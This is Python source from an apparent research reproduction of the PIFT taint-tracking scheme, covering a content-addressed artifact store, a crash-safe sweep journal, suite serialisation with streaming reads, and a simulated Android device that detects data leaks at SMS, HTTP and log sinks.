            return entries
        for meta_path in sorted(self.objects_dir.glob(f"*/*{_META_SUFFIX}")):
            meta = self._read_meta(meta_path)
            if meta is None:
                continue
            payload_path = meta_path.with_name(
                meta_path.name.replace(_META_SUFFIX, _PAYLOAD_SUFFIX)
            )
            if not payload_path.exists():
                continue
            entries.append(meta)
        return entries

    def stats(self) -> dict:
        """JSON-ready store accounting (the ``repro store stats`` payload)."""
        entries = self._entries()
        kinds: Dict[str, dict] = {}
        for meta in entries:
            kind = meta.get("key", {}).get("kind", "unknown")
            row = kinds.setdefault(kind, {"entries": 0, "payload_bytes": 0})
            row["entries"] += 1
            row["payload_bytes"] += meta.get("payload_bytes", 0)
        quarantined = (
            sorted(p.name for p in self.quarantine_dir.iterdir())
            if self.quarantine_dir.is_dir()
            else []
        )
        return {
            "root": str(self.root),
            "store_version": STORE_VERSION,
            "entries": len(entries),
            "payload_bytes": sum(m.get("payload_bytes", 0) for m in entries),
            "kinds": kinds,
            "quarantined": len(quarantined),
            "journals": self.journal_ids(),
            "counters": {
                "hits": self.hits,
                "misses": self.misses,
                "writes": self.writes,
                "corruptions": self.corruptions,
            },
        }

    def verify(self) -> dict:
        """Re-hash every committed entry; quarantine the bad ones.

        ``quarantined`` counts files already sitting in the quarantine
        directory (from this pass or earlier ones) — a store needing
        attention even when every remaining entry re-hashes clean.
        """
        checked = 0
        corrupt: List[str] = []
        for meta in self._entries():
            digest = meta["digest"]
            payload_path, _ = self._entry_paths(digest)
            checked += 1
            try:
                payload = payload_path.read_bytes()
            except OSError:
                corrupt.append(digest)
                continue
            if _sha256(payload) != meta.get("sha256"):
                corrupt.append(digest)
                self._note_corruption()
                self._quarantine(digest)
        quarantined = (
            len(list(self.quarantine_dir.iterdir()))
            if self.quarantine_dir.is_dir()
            else 0
        )
        return {
            "checked": checked,
            "corrupt": len(corrupt),
            "digests": corrupt,
            "quarantined": quarantined,
        }

    def prune(
        self,
        max_bytes: Optional[int] = None,
        clear_quarantine: bool = True,
    ) -> dict:
        """Delete quarantined files and (optionally) shrink under a budget.

        With ``max_bytes``, whole entries are removed oldest-first (by
        the ``created`` stamp) until the remaining payload bytes fit.
        """
        if self.read_only:
            raise StoreError("store opened read-only")
        removed_entries = 0
        removed_bytes = 0
        quarantine_files = 0
        if clear_quarantine and self.quarantine_dir.is_dir():
            for path in list(self.quarantine_dir.iterdir()):
                try:
                    size = path.stat().st_size
                    path.unlink()
                except OSError:
                    continue
                quarantine_files += 1
                removed_bytes += size
        if max_bytes is not None:
            entries = sorted(
                self._entries(), key=lambda m: m.get("created", 0.0)
            )
            total = sum(m.get("payload_bytes", 0) for m in entries)
            for meta in entries:
                if total <= max_bytes:
                    break
                for path in self._entry_paths(meta["digest"]):
                    try:
                        path.unlink()
                    except OSError:
                        pass
                total -= meta.get("payload_bytes", 0)
                removed_bytes += meta.get("payload_bytes", 0)
                removed_entries += 1
        return {
            "removed_entries": removed_entries,
            "quarantine_files_removed": quarantine_files,
            "removed_bytes": removed_bytes,
        }

"""repro.store — persistent, content-addressed recording artifacts.

The durability layer under the sweep stack: :class:`ArtifactStore`
persists recorded suites keyed by a digest of their recording inputs
(record each suite once *ever*, not once per process), and
:class:`RunJournal` checkpoints finished sweep cells so a killed grid
resumes — bit-identically — with ``--resume``.  ``TraceCache`` takes a
``backing_store``, ``run_sweep`` takes a ``journal``, and the CLI grows
``--store`` / ``--resume`` plus a ``repro store`` maintenance command.
"""

from repro.store.journal import (
    JOURNAL_VERSION,
    JournalError,
    RunJournal,
    cell_result_from_record,
    cell_result_to_record,
    cells_fingerprint,
    new_run_id,
)
from repro.store.store import (
    STORE_VERSION,
    ArtifactStore,
    StoreError,
    StoreKey,
    droidbench_key,
    lgroot_key,
    malware_key,
)
from repro.store.suitefile import dump_suite_bytes, load_suite_bytes

__all__ = [
    "ArtifactStore",
    "JOURNAL_VERSION",
    "JournalError",
    "RunJournal",
    "STORE_VERSION",
    "StoreError",
    "StoreKey",
    "cell_result_from_record",
    "cell_result_to_record",
    "cells_fingerprint",
    "droidbench_key",
    "dump_suite_bytes",
    "lgroot_key",
    "load_suite_bytes",
    "malware_key",
    "new_run_id",
]

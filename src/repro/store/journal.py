"""Crash-safe sweep journals: checkpoint every finished cell, resume later.

A journal is an append-only JSONL file under ``<store>/journals/``.  The
first line is a header binding the journal to a *grid fingerprint* — a
SHA-256 over every cell's deterministic identity — so ``--resume`` can
refuse to graft results onto a different grid.  Each subsequent line is
one completed :class:`~repro.sweep.engine.CellResult`.

Crash-safety invariants:

* every record is a single line, flushed and fsync'd before the engine
  reports the cell as checkpointed — a kill after checkpoint N loses
  nothing up to N;
* a torn trailing line (the crash landed mid-write) is detected by JSON
  parse failure on load, *truncated away* (so later appends extend a
  clean file rather than concatenating onto the fragment), and warned
  about; the cell it described simply re-runs;
* fault-tolerance bookkeeping rides in the same stream: ``attempt``
  records mark a cell requeued by the queue backend, ``poison`` records
  mark a cell quarantined after its retry budget — a later ``cell``
  record for the same index supersedes its poison record (completed
  wins), so a resumed run can cure a previously poisoned cell;
* records are pure deterministic payloads (the same fields
  ``CellResult.as_dict`` freezes), so a resumed grid is bit-identical to
  an uninterrupted run — verified by tests and the CI resume-smoke job.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import warnings
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Union

JOURNAL_VERSION = 1


class JournalError(RuntimeError):
    """The journal is unusable or does not match the requested grid."""


def _cell_identity(cell) -> dict:
    """The deterministic identity of one cell (order-independent of results)."""
    base_rates = (
        dataclasses.asdict(cell.base_rates)
        if cell.base_rates is not None
        else None
    )
    return {
        "index": cell.index,
        "ni": cell.config.window_size,
        "nt": cell.config.max_propagations,
        "untainting": cell.config.untainting,
        "vectorized": cell.config.vectorized,
        "rate": cell.rate,
        "site": cell.site,
        "seed": cell.seed,
        "base_rates": base_rates,
        "state_spec": cell.state_spec,
        "droidbench": cell.droidbench,
        "malware": cell.malware,
        # Only colour-on cells carry the marker: journals written before
        # the flag existed keep fingerprint-matching their grids.
        **({"colours": True} if getattr(cell, "colours", False) else {}),
    }


def cells_fingerprint(cells: Sequence) -> str:
    """SHA-256 over the canonical identity of every cell, in order."""
    body = json.dumps(
        {
            "journal_version": JOURNAL_VERSION,
            "cells": [_cell_identity(cell) for cell in cells],
        },
        sort_keys=True,
        separators=(",", ":"),
    )
    return hashlib.sha256(body.encode("utf-8")).hexdigest()


def cell_result_to_record(result) -> dict:
    """One journal line for a finished cell (deterministic payload +
    the original run's timing bookkeeping)."""
    return {
        "type": "cell",
        "index": result.index,
        "cell": result.as_dict(),
        "duration_seconds": result.duration_seconds,
        "worker": result.worker,
    }


def cell_result_from_record(record: dict):
    """Rebuild a :class:`~repro.sweep.engine.CellResult` from its record."""
    from repro.core.config import PIFTConfig
    from repro.core.faults import FaultStats
    from repro.analysis.accuracy import AccuracyReport
    from repro.sweep.engine import CellResult

    cell = record["cell"]
    result = CellResult(
        index=cell["index"],
        config=PIFTConfig(
            window_size=cell["ni"],
            max_propagations=cell["nt"],
            untainting=cell["untainting"],
            vectorized=cell["vectorized"],
        ),
        rate=cell["rate"],
        site=cell["site"],
        seed=cell["seed"],
        state_spec=cell["state_spec"],
        fault_stats=FaultStats.from_dict(cell["faults"]),
        events_tracked=cell["events_tracked"],
        operations=cell["operations"],
        duration_seconds=record.get("duration_seconds", 0.0),
        worker=record.get("worker", 0),
    )
    if "report" in cell:
        result.report = AccuracyReport.from_dict(cell["report"])
    if "malware_total" in cell:
        result.malware_detected = cell["malware_detected"]
        result.malware_total = cell["malware_total"]
    if "colours" in cell:
        result.colours = cell["colours"]
    return result


def new_run_id(fingerprint: str, existing: Sequence[str]) -> str:
    """A readable, collision-free id: ``<fingerprint[:10]>-NNN``."""
    prefix = fingerprint[:10]
    taken = {run_id for run_id in existing if run_id.startswith(prefix)}
    sequence = 0
    while f"{prefix}-{sequence:03d}" in taken:
        sequence += 1
    return f"{prefix}-{sequence:03d}"


class RunJournal:
    """One sweep run's append-only checkpoint log."""

    def __init__(
        self,
        path: Union[str, Path],
        run_id: str,
        fingerprint: str,
        total_cells: int,
        completed: Optional[Dict[int, dict]] = None,
        attempts: Optional[Dict[int, List[dict]]] = None,
        poisoned: Optional[Dict[int, dict]] = None,
    ) -> None:
        self.path = Path(path)
        self.run_id = run_id
        self.fingerprint = fingerprint
        self.total_cells = total_cells
        #: index -> raw journal record of every checkpointed cell.
        self.completed: Dict[int, dict] = dict(completed or {})
        #: index -> requeue records (queue backend retries), append order.
        self.attempts: Dict[int, List[dict]] = dict(attempts or {})
        #: index -> poison record for cells quarantined after their retry
        #: budget — never holds an index that also appears in ``completed``
        #: (a completed cell supersedes any earlier poison record).
        self.poisoned: Dict[int, dict] = dict(poisoned or {})

    # -- construction -----------------------------------------------------

    @classmethod
    def create(
        cls, path: Union[str, Path], cells: Sequence, run_id: str
    ) -> "RunJournal":
        """Start a fresh journal; writes (and fsyncs) the header line."""
        cells = list(cells)
        path = Path(path)
        if path.exists():
            raise JournalError(f"journal {path} already exists")
        journal = cls(
            path=path,
            run_id=run_id,
            fingerprint=cells_fingerprint(cells),
            total_cells=len(cells),
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        journal._append_line(
            {
                "type": "header",
                "journal_version": JOURNAL_VERSION,
                "run_id": run_id,
                "fingerprint": journal.fingerprint,
                "cells": len(cells),
            }
        )
        return journal

    @classmethod
    def load(cls, path: Union[str, Path]) -> "RunJournal":
        """Open an existing journal, tolerating a torn trailing line."""
        path = Path(path)
        try:
            raw = path.read_text(encoding="utf-8")
        except OSError as error:
            raise JournalError(f"cannot read journal {path}: {error}") from error
        lines = raw.split("\n")
        records: List[dict] = []
        torn: Optional[int] = None
        for position, line in enumerate(lines):
            line = line.strip()
            if not line:
                continue
            try:
                record = json.loads(line)
            except json.JSONDecodeError:
                if position >= len(lines) - 2:
                    # A crash mid-append tore the final line; the cell it
                    # described was never reported checkpointed — drop it.
                    torn = position
                    continue
                raise JournalError(
                    f"journal {path} is corrupt at line {position + 1}"
                )
            if isinstance(record, dict):
                records.append(record)
        if torn is not None:
            # Truncate the fragment away so a later append extends a
            # clean file instead of welding onto the torn bytes (which
            # would corrupt the *middle* of the file for the next load).
            keep = "\n".join(lines[:torn])
            if keep:
                keep += "\n"
            warnings.warn(
                f"journal {path}: dropped torn trailing record at line "
                f"{torn + 1} (crash mid-append); truncating to last "
                f"complete record",
                RuntimeWarning,
                stacklevel=2,
            )
            try:
                os.truncate(path, len(keep.encode("utf-8")))
            except OSError:
                # Read-only medium: loading still works, appends would
                # have failed anyway.
                pass
        if not records or records[0].get("type") != "header":
            raise JournalError(f"journal {path} has no header")
        header = records[0]
        if header.get("journal_version") != JOURNAL_VERSION:
            raise JournalError(
                f"journal {path} has version {header.get('journal_version')}, "
                f"expected {JOURNAL_VERSION}"
            )
        completed = {
            record["index"]: record
            for record in records[1:]
            if record.get("type") == "cell" and "index" in record
        }
        attempts: Dict[int, List[dict]] = {}
        for record in records[1:]:
            if record.get("type") == "attempt" and "index" in record:
                attempts.setdefault(record["index"], []).append(record)
        poisoned = {
            record["index"]: record
            for record in records[1:]
            if record.get("type") == "poison"
            and "index" in record
            and record["index"] not in completed
        }
        return cls(
            path=path,
            run_id=header.get("run_id", path.stem),
            fingerprint=header["fingerprint"],
            total_cells=header.get("cells", 0),
            completed=completed,
            attempts=attempts,
            poisoned=poisoned,
        )

    # -- use --------------------------------------------------------------

    def check_matches(self, cells: Sequence) -> None:
        """Refuse to resume against a different grid than was journaled."""
        current = cells_fingerprint(cells)
        if current != self.fingerprint:
            raise JournalError(
                f"journal {self.run_id} was written for a different grid "
                f"(journal fingerprint {self.fingerprint[:10]}..., "
                f"requested {current[:10]}...); re-run without --resume"
            )

    def completed_results(self) -> Dict[int, object]:
        """Checkpointed cells rebuilt as ``CellResult`` objects."""
        return {
            index: cell_result_from_record(record)
            for index, record in self.completed.items()
        }

    def cell_rows(self) -> List[dict]:
        """Flat per-cell rows for post-hoc reporting (``repro report``).

        One dict per checkpointed cell, in index order, carrying the
        deterministic identity plus the run's timing bookkeeping —
        ``worker`` is the evaluating process's pid, the join key against
        the relayed telemetry stream's track metadata.
        """
        rows = []
        for index in sorted(self.completed):
            record = self.completed[index]
            cell = record.get("cell", {})
            rows.append(
                {
                    "index": index,
                    "ni": cell.get("ni"),
                    "nt": cell.get("nt"),
                    "rate": cell.get("rate"),
                    "site": cell.get("site"),
                    "accuracy": cell.get("accuracy"),
                    "events_tracked": cell.get("events_tracked", 0),
                    "operations": cell.get("operations", 0),
                    "duration_seconds": record.get("duration_seconds", 0.0),
                    "worker": record.get("worker", 0),
                    # Conditional, like the journal record itself: rows
                    # from colour-off runs keep their original key set.
                    **(
                        {"colours": cell["colours"]}
                        if "colours" in cell
                        else {}
                    ),
                }
            )
        return rows

    def append(self, result) -> None:
        """Checkpoint one finished cell (flushed + fsync'd before return)."""
        record = cell_result_to_record(result)
        self._append_line(record)
        self.completed[result.index] = record
        # Completed wins: a straggler/resumed success cures the cell.
        self.poisoned.pop(result.index, None)

    def append_attempt(self, cell_index: int, attempt: int, reason: str) -> None:
        """Record a queue-backend requeue: attempt N of this cell failed."""
        record = {
            "type": "attempt",
            "index": cell_index,
            "attempt": attempt,
            "reason": reason,
        }
        self._append_line(record)
        self.attempts.setdefault(cell_index, []).append(record)

    def append_poison(
        self, cell_index: int, attempts: int, error: Optional[str]
    ) -> None:
        """Record a cell quarantined after exhausting its retry budget."""
        record = {
            "type": "poison",
            "index": cell_index,
            "attempts": attempts,
            "error": error,
        }
        self._append_line(record)
        if cell_index not in self.completed:
            self.poisoned[cell_index] = record

    def poison_rows(self) -> List[dict]:
        """Quarantined cells for reporting, in index order."""
        return [
            {
                "index": index,
                "attempts": self.poisoned[index].get("attempts", 0),
                "error": self.poisoned[index].get("error"),
            }
            for index in sorted(self.poisoned)
        ]

    def _append_line(self, record: dict) -> None:
        line = json.dumps(record, sort_keys=True, separators=(",", ":"))
        with open(self.path, "a", encoding="utf-8") as handle:
            handle.write(line + "\n")
            handle.flush()
            os.fsync(handle.fileno())

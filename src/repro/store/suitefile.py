"""Suite artifacts: a whole recorded suite as one deterministic blob.

The :mod:`repro.analysis.tracefile` format persists *one* recorded run;
the artifact store persists *suites* — the list of
:class:`~repro.analysis.accuracy.AppRun` a recording pass produces —
because that is the unit every sweep cell consumes.  The document reuses
the tracefile event encoding (same ``FORMAT_VERSION``, so a trace-format
bump invalidates store entries too, by design).

Byte determinism matters here: two processes racing to record the same
suite must produce *identical* payload bytes so the atomic-replace write
protocol is last-writer-wins over equal content.  Hence ``sort_keys``,
compact separators, and a zeroed gzip mtime.
"""

from __future__ import annotations

import gzip
import json
from typing import List, Sequence

from repro.analysis.tracefile import (
    FORMAT_VERSION,
    TraceFormatError,
    decode_recorded_run,
    encode_recorded_run,
)

SUITE_FORMAT = "pift-suite"


def dump_suite_bytes(runs: Sequence) -> bytes:
    """Serialise ``runs`` (a list of ``AppRun``) to deterministic gzip bytes."""
    document = {
        "format": SUITE_FORMAT,
        "version": FORMAT_VERSION,
        "runs": [
            {
                "name": run.name,
                "leaks": bool(run.leaks),
                "category": run.category,
                "run": encode_recorded_run(run.recorded),
            }
            for run in runs
        ],
    }
    raw = json.dumps(
        document, sort_keys=True, separators=(",", ":")
    ).encode("utf-8")
    return gzip.compress(raw, mtime=0)


def load_suite_bytes(payload: bytes) -> List:
    """Rebuild the ``AppRun`` list from :func:`dump_suite_bytes` output.

    Raises :class:`~repro.analysis.tracefile.TraceFormatError` on any
    structural problem — the store treats that exactly like a checksum
    mismatch (quarantine + re-record).
    """
    from repro.analysis.accuracy import AppRun

    try:
        document = json.loads(gzip.decompress(payload).decode("utf-8"))
    except (OSError, ValueError) as error:
        raise TraceFormatError(f"unreadable suite payload: {error}") from error
    if not isinstance(document, dict) or document.get("format") != SUITE_FORMAT:
        raise TraceFormatError("payload is not a pift-suite document")
    if document.get("version") != FORMAT_VERSION:
        raise TraceFormatError(
            f"suite payload has version {document.get('version')}, "
            f"expected {FORMAT_VERSION}"
        )
    try:
        return [
            AppRun(
                name=entry["name"],
                recorded=decode_recorded_run(entry["run"]),
                leaks=entry["leaks"],
                category=entry.get("category", ""),
            )
            for entry in document["runs"]
        ]
    except (KeyError, TypeError) as error:
        raise TraceFormatError(f"malformed suite entry: {error}") from error

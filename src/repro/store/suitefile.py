"""Suite artifacts: a whole recorded suite as one deterministic blob.

The :mod:`repro.analysis.tracefile` format persists *one* recorded run;
the artifact store persists *suites* — the list of
:class:`~repro.analysis.accuracy.AppRun` a recording pass produces —
because that is the unit every sweep cell consumes.  The document reuses
the tracefile event encoding (same ``FORMAT_VERSION``, so a trace-format
bump invalidates store entries too, by design).

Byte determinism matters here: two processes racing to record the same
suite must produce *identical* payload bytes so the atomic-replace write
protocol is last-writer-wins over equal content.  Hence ``sort_keys``,
compact separators, and a zeroed gzip mtime.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import re
from typing import Iterator, List, Sequence

from repro.analysis.tracefile import (
    FORMAT_VERSION,
    TraceFormatError,
    decode_recorded_run,
    encode_recorded_run,
)

SUITE_FORMAT = "pift-suite"


def dump_suite_bytes(runs: Sequence) -> bytes:
    """Serialise ``runs`` (a list of ``AppRun``) to deterministic gzip bytes."""
    document = {
        "format": SUITE_FORMAT,
        "version": FORMAT_VERSION,
        "runs": [
            {
                "name": run.name,
                "leaks": bool(run.leaks),
                "category": run.category,
                "run": encode_recorded_run(run.recorded),
            }
            for run in runs
        ],
    }
    raw = json.dumps(
        document, sort_keys=True, separators=(",", ":")
    ).encode("utf-8")
    return gzip.compress(raw, mtime=0)


def load_suite_bytes(payload: bytes) -> List:
    """Rebuild the ``AppRun`` list from :func:`dump_suite_bytes` output.

    Raises :class:`~repro.analysis.tracefile.TraceFormatError` on any
    structural problem — the store treats that exactly like a checksum
    mismatch (quarantine + re-record).
    """
    from repro.analysis.accuracy import AppRun

    try:
        document = json.loads(gzip.decompress(payload).decode("utf-8"))
    except (OSError, ValueError) as error:
        raise TraceFormatError(f"unreadable suite payload: {error}") from error
    if not isinstance(document, dict) or document.get("format") != SUITE_FORMAT:
        raise TraceFormatError("payload is not a pift-suite document")
    if document.get("version") != FORMAT_VERSION:
        raise TraceFormatError(
            f"suite payload has version {document.get('version')}, "
            f"expected {FORMAT_VERSION}"
        )
    try:
        return [
            AppRun(
                name=entry["name"],
                recorded=decode_recorded_run(entry["run"]),
                leaks=entry["leaks"],
                category=entry.get("category", ""),
            )
            for entry in document["runs"]
        ]
    except (KeyError, TypeError) as error:
        raise TraceFormatError(f"malformed suite entry: {error}") from error


# -- streaming reads ---------------------------------------------------------
#
# The byte determinism that makes writes last-writer-wins-safe also makes
# *incremental* reads possible without a streaming JSON parser: every
# suite payload is exactly
#
#     {"format":"pift-suite","runs":[<run>,<run>,...],"version":N}
#
# (sort_keys puts ``format`` < ``runs`` < ``version``), so a scanner can
# verify the prefix, lift one balanced ``<run>`` object at a time off the
# gzip stream, and decode it — memory stays proportional to one run, not
# the suite.  The fleet client feeds hours of device streams this way.
# One consequence of the key order is that ``version`` sits at the *tail*:
# a version mismatch is reported when the iterator reaches the end, after
# runs have already been yielded.  Callers that need up-front validation
# keep using :func:`load_suite_bytes`.

_STREAM_PREFIX = '{"format":"pift-suite","runs":['
_STREAM_TAIL = re.compile(r',?"version":(\d+)\}\s*')


class _JsonScanner:
    """Pulls text off a byte stream; can take one balanced JSON object."""

    def __init__(self, fileobj, chunk_size: int = 1 << 16) -> None:
        self._fileobj = fileobj
        self._chunk_size = chunk_size
        self._buffer = ""
        self._eof = False

    def _fill(self) -> bool:
        if self._eof:
            return False
        try:
            chunk = self._fileobj.read(self._chunk_size)
        except (OSError, EOFError) as error:
            raise TraceFormatError(
                f"unreadable suite payload: {error}"
            ) from error
        if not chunk:
            self._eof = True
            return False
        self._buffer += chunk.decode("utf-8")
        return True

    def _need(self, count: int) -> None:
        while len(self._buffer) < count and self._fill():
            pass
        if len(self._buffer) < count:
            raise TraceFormatError("truncated suite payload")

    def take(self, count: int) -> str:
        self._need(count)
        text, self._buffer = self._buffer[:count], self._buffer[count:]
        return text

    def peek(self) -> str:
        self._need(1)
        return self._buffer[0]

    def take_object(self) -> str:
        """One balanced ``{...}`` object (string/escape aware)."""
        if self.peek() != "{":
            raise TraceFormatError("suite run entry is not an object")
        depth = 0
        in_string = False
        escaped = False
        position = 0
        while True:
            if position >= len(self._buffer) and not self._fill():
                raise TraceFormatError("truncated suite payload")
            ch = self._buffer[position]
            position += 1
            if escaped:
                escaped = False
            elif in_string:
                if ch == "\\":
                    escaped = True
                elif ch == '"':
                    in_string = False
            elif ch == '"':
                in_string = True
            elif ch == "{":
                depth += 1
            elif ch == "}":
                depth -= 1
                if depth == 0:
                    return self.take(position)

    def rest(self) -> str:
        while self._fill():
            pass
        text, self._buffer = self._buffer, ""
        return text


def iter_suite_runs(source, chunk_size: int = 1 << 16) -> Iterator:
    """Yield ``AppRun`` entries from a suite payload one at a time.

    ``source`` is a filesystem path, a binary file object, or the raw
    payload bytes.  Decoding is incremental: each run's events are only
    materialised when its entry is yielded, so a many-run suite streams
    in ~one run of memory.  Raises
    :class:`~repro.analysis.tracefile.TraceFormatError` on structural
    problems — including a version mismatch, which (by the canonical key
    order) is only detectable once the iterator reaches the document
    tail.
    """
    from repro.analysis.accuracy import AppRun

    close_file = False
    if isinstance(source, (str, os.PathLike)):
        fileobj = open(source, "rb")
        close_file = True
    elif isinstance(source, (bytes, bytearray)):
        fileobj = io.BytesIO(bytes(source))
    else:
        fileobj = source
    try:
        scanner = _JsonScanner(
            gzip.GzipFile(fileobj=fileobj, mode="rb"), chunk_size
        )
        if scanner.take(len(_STREAM_PREFIX)) != _STREAM_PREFIX:
            raise TraceFormatError(
                "payload is not a canonical pift-suite document"
            )
        if scanner.peek() == "]":
            scanner.take(1)
        else:
            while True:
                try:
                    entry = json.loads(scanner.take_object())
                    run = AppRun(
                        name=entry["name"],
                        recorded=decode_recorded_run(entry["run"]),
                        leaks=entry["leaks"],
                        category=entry.get("category", ""),
                    )
                except (KeyError, TypeError, ValueError) as error:
                    raise TraceFormatError(
                        f"malformed suite entry: {error}"
                    ) from error
                yield run
                separator = scanner.take(1)
                if separator == "]":
                    break
                if separator != ",":
                    raise TraceFormatError(
                        f"unexpected {separator!r} between suite runs"
                    )
        tail = _STREAM_TAIL.fullmatch(scanner.rest())
        if tail is None:
            raise TraceFormatError("malformed suite document tail")
        if int(tail.group(1)) != FORMAT_VERSION:
            raise TraceFormatError(
                f"suite payload has version {tail.group(1)}, "
                f"expected {FORMAT_VERSION}"
            )
    finally:
        if close_file:
            fileobj.close()

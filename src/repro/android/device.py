"""The simulated Android device: CPU + PIFT stack + VM + framework.

``AndroidDevice`` assembles the full Figure 3 stack:

* the ISA CPU with the PIFT front-end observer attached,
* the PIFT hardware module (taint storage + Algorithm 1),
* the kernel module, native (address translation), and manager layers,
* the Dalvik VM with core and framework intrinsics,
* the framework's sources/sinks wired to the manager.

Every run also produces a :class:`RecordedRun` — the memory-event trace,
source registrations, and sink checks — so analysis code can replay the
same execution under many ``(NI, NT)`` configurations offline, exactly how
the paper feeds gem5 traces into "the PIFT analysis code" (§5).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterable, List, Optional, Sequence, Tuple

from repro.core import (
    AddressRange,
    EventTrace,
    MemoryAccess,
    PAPER_DEFAULT,
    PIFTConfig,
    PIFTHardwareModule,
    PIFTKernelModule,
    PIFTManager,
    PIFTNative,
)
from repro.core.tracker import StateFactory
from repro.core.ranges import RangeSet
from repro.isa.cpu import CPU, FullTraceRecorder, TraceRecorder
from repro.dalvik import DalvikVM, Method, VMArray, VMInstance, VMString
from repro.android.framework import (
    AndroidFramework,
    DeviceSecrets,
    FieldRef,
    SinkEvent,
)


@dataclass(frozen=True)
class SourceRegistration:
    """One tainted range, with the instruction index it appeared at.

    ``pid`` is the process the registration targeted; replay paths must
    forward it, or multi-process runs collapse onto PID 0's taint state.
    """

    address_range: AddressRange
    instruction_index: int
    source_name: str
    pid: int = 0
    #: Optional explicit provenance colour.  ``None`` means "colour by
    #: source name", which is what the coloured replay paths default to —
    #: set it only to group distinct sources under one label (or split
    #: one source into several).  Absent from v2/v3 tracefiles unless
    #: set, so existing fixtures stay byte-identical.
    colour: Optional[str] = None


@dataclass(frozen=True)
class SinkCheck:
    """One sink-side taint query, for offline replay."""

    address_range: AddressRange
    instruction_index: int
    sink_name: str
    channel: str
    pid: int = 0


@dataclass
class RecordedRun:
    """Everything needed to re-evaluate a run under a different config."""

    trace: EventTrace = field(default_factory=EventTrace)
    sources: List[SourceRegistration] = field(default_factory=list)
    sink_checks: List[SinkCheck] = field(default_factory=list)

    @property
    def instruction_count(self) -> int:
        return self.trace.instruction_count


class AndroidDevice:
    """A ready-to-run device. Install app methods, call entry points."""

    def __init__(
        self,
        config: PIFTConfig = PAPER_DEFAULT,
        secrets: Optional[DeviceSecrets] = None,
        state_factory: StateFactory = RangeSet,
        record_timeline: bool = False,
        keep_full_trace: bool = False,
        fused_dispatch: bool = False,
        telemetry=None,
        faults=None,
    ) -> None:
        """``telemetry`` (a :class:`repro.telemetry.Telemetry`) is threaded
        into every layer — CPU batches, VM method spans, the tracker's
        mutation stream, and the manager's source/sink events all report
        to the same hub.  ``faults`` (a :class:`repro.core.FaultPlan`)
        injects deterministic event/state faults between the CPU front
        end and the PIFT hardware module; the recorded trace stays
        pristine — only the live tracker sees the faulted stream."""
        self.telemetry = telemetry
        self.cpu = CPU(telemetry=telemetry)
        self.hw = PIFTHardwareModule(
            config,
            state_factory=state_factory,
            record_timeline=record_timeline,
            telemetry=telemetry,
            faults=faults,
        )
        self.module = PIFTKernelModule(self.hw)
        self.native = PIFTNative(self.module)
        self.recorded = RecordedRun()
        self._trace_recorder = TraceRecorder()
        self.recorded.trace = self._trace_recorder.trace
        self.full_trace = FullTraceRecorder() if keep_full_trace else None

        self.cpu.add_observer(self._on_instruction)
        self.vm = DalvikVM(self.cpu, fused_dispatch=fused_dispatch)
        self.secrets = secrets or DeviceSecrets()
        self.manager = self._recording_manager()
        self.framework = AndroidFramework(self.vm, self.manager, self.secrets)
        self.framework.register_all(self.vm)
        self._register_translators()

    # -- PIFT wiring ------------------------------------------------------------

    def _on_instruction(self, record, index: int, pid: int) -> None:
        if record.is_memory:
            event = MemoryAccess(record.kind, record.address_range, index, pid)
            self.hw.on_memory_event(event)
            self._trace_recorder(record, index, pid)
        else:
            self._trace_recorder(record, index, pid)
        if self.full_trace is not None:
            self.full_trace(record, index, pid)

    def _register_translators(self) -> None:
        self.native.register_translator(
            VMString, lambda value: [value.data_range()]
        )
        self.native.register_translator(
            VMArray, lambda value: [value.data_range()]
        )
        self.native.register_translator(
            VMInstance, lambda value: [value.data_range()]
        )
        self.native.register_translator(
            FieldRef,
            lambda ref: [ref.instance.field_range(ref.field_name)],
        )

    def _recording_manager(self) -> PIFTManager:
        """Wrap the manager so registrations/checks are also recorded."""
        device = self

        class RecordingManager(PIFTManager):
            def register_source(self, source_name, value, pid=0):
                ranges = self.native.translate(value)
                for address_range in ranges:
                    device.recorded.sources.append(
                        SourceRegistration(
                            address_range,
                            device.cpu.instruction_count(pid),
                            source_name,
                            pid=pid,
                        )
                    )
                super().register_source(source_name, value, pid=pid)

            def check_sink(self, sink_name, value, pid=0):
                for address_range in self.native.translate(value):
                    device.recorded.sink_checks.append(
                        SinkCheck(
                            address_range,
                            device.cpu.instruction_count(pid),
                            sink_name,
                            _channel_of(sink_name),
                            pid=pid,
                        )
                    )
                return super().check_sink(sink_name, value, pid=pid)

        return RecordingManager(self.native, telemetry=self.telemetry)

    # -- app surface -------------------------------------------------------------

    def define_class(self, name: str, fields: Sequence[Tuple[str, int]] = (),
                     superclass: Optional[str] = None):
        return self.vm.heap.define_class(name, fields, superclass=superclass)

    def install(self, methods: Iterable[Method]) -> None:
        for method in methods:
            self.vm.register_method(method)

    def run(self, entry: str, args: Sequence[int] = ()) -> int:
        return self.vm.call(entry, args)

    # -- results --------------------------------------------------------------------

    @property
    def config(self) -> PIFTConfig:
        return self.hw.config

    @property
    def leak_detected(self) -> bool:
        return any(event.pift_alarm for event in self.framework.sinks)

    @property
    def sinks(self) -> List[SinkEvent]:
        return self.framework.sinks

    @property
    def stats(self):
        return self.hw.stats

    @property
    def fault_stats(self):
        return self.hw.fault_stats


def _channel_of(sink_name: str) -> str:
    if "Sms" in sink_name:
        return "sms"
    if "Http" in sink_name or "URL" in sink_name:
        return "http"
    if "Log" in sink_name:
        return "log"
    return "other"

"""The Android-like substrate: device, framework sources/sinks, PIFT wiring."""

from repro.android.device import (
    AndroidDevice,
    RecordedRun,
    SinkCheck,
    SourceRegistration,
)
from repro.android.framework import (
    AndroidFramework,
    DeviceSecrets,
    FieldRef,
    SinkEvent,
)

__all__ = [
    "AndroidDevice",
    "AndroidFramework",
    "DeviceSecrets",
    "FieldRef",
    "RecordedRun",
    "SinkCheck",
    "SinkEvent",
    "SourceRegistration",
]

"""Android framework services: sensitive sources and exfiltration sinks.

Sources mirror DroidBench 1.1's set — device ID (IMEI), serial number,
phone number, and GPS location; sinks are SMS messages, HTTP connections,
and logging (paper §5).  Each source intrinsic materialises the sensitive
datum in framework memory, registers it with the PIFT Manager (which
resolves addresses through PIFT Native and taints them in the hardware
module), and returns it to the app with real stores.  Each sink intrinsic
queries the manager before serialising the outgoing payload.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.isa import asm
from repro.dalvik.intrinsics import Emit, _instance, _string
